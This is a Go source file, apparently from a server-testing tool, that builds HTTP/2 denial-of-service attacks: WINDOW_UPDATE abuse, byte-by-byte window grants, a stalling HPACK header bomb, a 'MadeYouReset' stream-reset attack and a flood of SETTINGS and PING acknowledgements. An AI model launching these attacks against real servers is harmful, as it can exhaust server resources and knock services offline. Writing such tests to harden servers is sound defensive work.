package hostile

import (
	"slices"

	"golang.org/x/net/http2"
)

// windowAttacks returns attacks with the windows of replies, and attacks that make a server reset
// streams that it is working on.
func windowAttacks(headers, request []byte) []Attack {
	return []Attack{
		// The same frames as gRPC's C core, but without a pause.
		repeated("two WINDOW_UPDATEs a call", ConnOptions{}, 4, func(b []byte, stream uint32) []byte {
			b = appendFrame(b, http2.FrameHeaders, http2.FlagHeadersEndHeaders, stream, headers)
			b = appendCode(b, http2.FrameWindowUpdate, stream, largestReply)
			b = appendFrame(b, http2.FrameData, http2.FlagDataEndStream, stream, request)
			return appendCode(b, http2.FrameWindowUpdate, 0, largestReply)
		}),
		{Name: "windows that open by bytes", options: zeroWindow, begin: func(c *Conn) (func() error, error) {
			return c.openByBytes(headers, request)
		}},
		{Name: "HPACK bomb that stalls", options: zeroWindow, begin: func(c *Conn) (func() error, error) {
			return c.stalledBomb(headers, request)
		}},
		repeated("MadeYouReset by a window", ConnOptions{}, 3, func(b []byte, stream uint32) []byte {
			b = appendFrame(b, http2.FrameHeaders, http2.FlagHeadersEndHeaders, stream, headers)
			b = appendCode(b, http2.FrameWindowUpdate, stream, 1<<31-1)
			return appendFrame(b, http2.FrameData, http2.FlagDataEndStream, stream, request)
		}),
		flood("flood of acknowledgements", slices.Concat(
			appendFrame(nil, http2.FrameSettings, http2.FlagSettingsAck, 0, nil),
			appendFrame(nil, http2.FramePing, http2.FlagPingAck, 0, make([]byte, 8)))),
	}
}

// largestReply is more than the size of a reply to [Request].
const largestReply = 256

// openByBytes makes calls whose answers have no window, and then grants one byte at a time.
func (c *Conn) openByBytes(headers, request []byte) (func() error, error) {
	if err := c.onManyStreams(2, func(b []byte, stream uint32) []byte { return appendCall(b, stream, headers, request) })(); err != nil {
		return nil, err
	}
	window := uint32(0)
	return func() error {
		window++
		return c.Send(1, appendSettings(nil, http2.Setting{ID: http2.SettingInitialWindowSize, Val: window % largestReply}))
	}, nil
}

// stalledBomb makes calls whose decoded headers are thousands of times the sent size, within the
// server's limit, and whose answers have no window.
func (c *Conn) stalledBomb(headers, request []byte) (func() error, error) {
	first, bomb, err := bombOf(headers, 30)
	if err != nil {
		return nil, err
	}
	if err := c.Send(2, appendCall(nil, 1, first, request)); err != nil {
		return nil, err
	}
	return c.callsOf(3, 2, func(b []byte, stream uint32) []byte { return appendCall(b, stream, bomb, request) }), nil
}
